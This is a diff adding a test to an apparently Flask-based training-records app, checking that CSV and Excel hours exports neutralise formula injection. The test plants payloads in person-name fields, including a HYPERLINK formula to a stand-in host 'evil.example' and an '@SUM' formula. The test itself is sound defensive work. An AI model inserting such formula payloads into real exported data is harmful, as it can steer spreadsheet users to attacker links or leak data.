@@ -275,6 +275,34 @@ def test_attendance_import_checks_then_writes_on_confirmation(client, login_as):
     assert db.session.scalar(sa.select(sa.func.count(Attendance.id))) == 1
 
 
+def test_the_hours_exports_hand_a_spreadsheet_no_formula(client, login_as):
+    import csv as csv_module
+    import io
+
+    from openpyxl import load_workbook
+
+    officer = factories.officer()
+    p = factories.person(
+        prefix="",
+        **dict.fromkeys(("first_name_th", "first_name_en"), '=HYPERLINK("http://evil.example/?x","click")'),
+        **dict.fromkeys(("last_name_th", "last_name_en"), "@SUM(A1)"),
+    )
+    s = factories.session(starts_at=datetime(2026, 10, 5, 2, tzinfo=UTC), status=SessionStatus.COMPLETED)
+    factories.register(s, p, RegistrationState.ENROLLED)
+    attendance.record_marks(s, {p.id: "present"}, by_user_id=officer.id)
+    login_as(officer)
+    body = client.get("/training/reports/hours.csv?fy=2570").get_data().decode("utf-8-sig")
+    cells = [c for row in csv_module.reader(io.StringIO(body)) for c in row]
+    assert not [
+        c
+        for c in cells
+        if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())
+    ]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    sheet = load_workbook(io.BytesIO(client.get("/training/reports/hours.xlsx?fy=2570").data)).active
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
 def test_the_hours_report_and_its_exports(client, login_as):
     officer = factories.officer()
     p = factories.person(first_name_th="ประภา")
